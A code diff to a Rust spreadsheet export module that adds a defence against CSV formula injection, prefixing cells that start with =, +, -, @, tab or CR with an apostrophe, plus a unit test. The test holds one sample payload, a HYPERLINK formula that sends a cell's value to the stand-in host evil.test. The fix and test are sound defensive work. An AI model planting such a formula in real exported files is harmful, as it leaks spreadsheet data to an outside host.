@@ -60,9 +60,18 @@ pub struct Sheet {
     pub rows: Vec<Vec<Cell>>,
 }
 
+/// Text a spreadsheet would run as a formula (`= + - @`, or a leading tab or
+/// CR) gets a leading apostrophe, so it shows as the text it is.
+fn defused(s: &str) -> String {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
+        _ => s.to_string(),
+    }
+}
+
 fn csv_text(c: &Cell) -> String {
     match c {
-        Cell::Text(s) => s.clone(),
+        Cell::Text(s) => defused(s),
         Cell::Int(n) => n.to_string(),
         // Dutch decimal comma.
         Cell::Num(n) => format!("{n}").replace('.', ","),
@@ -138,6 +147,16 @@ pub fn to_xlsx(sheets: &[Sheet]) -> AppResult<Vec<u8>> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formulas_come_out_as_text() {
+        assert_eq!(defused("=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")"), "'=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")");
+        for s in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(defused(s).starts_with('\''), "{s}");
+        }
+        assert_eq!(defused("Anne Frijns"), "Anne Frijns");
+        assert_eq!(csv_text(&Cell::Int(-3)), "-3", "numbers stay numbers");
+    }
 
     #[test]
     fn csv_uses_semicolons_dutch_dates_and_decimal_commas() {
